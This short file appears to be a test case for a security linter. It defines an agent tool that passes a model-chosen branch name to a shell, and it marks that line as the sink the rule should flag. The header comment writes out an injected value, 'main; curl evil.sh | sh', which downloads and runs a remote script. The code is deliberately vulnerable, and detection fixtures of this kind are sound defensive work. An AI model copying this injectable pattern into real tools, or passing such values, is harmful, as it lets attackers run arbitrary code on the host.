# case: a repository helper whose function tool builds a shell command from the branch name the
# model passes: `main; curl evil.sh | sh` runs on the host (AIR106 at the sink). The run context
# parameter is the SDK's, not the model's.
import subprocess

from agents import Agent, RunContextWrapper, function_tool


@function_tool
def branch_log(ctx: RunContextWrapper, branch: str, limit: int = 20) -> str:
    """Show the latest commits of a branch."""
    out = subprocess.run(  # expect: AIR106
        f"git log --oneline -n {limit} {branch}", shell=True, capture_output=True, text=True
    )
    return out.stdout


repo_helper = Agent(
    name="Repo helper",
    instructions="Answer questions about the repository's history.",
    tools=[branch_log],
)
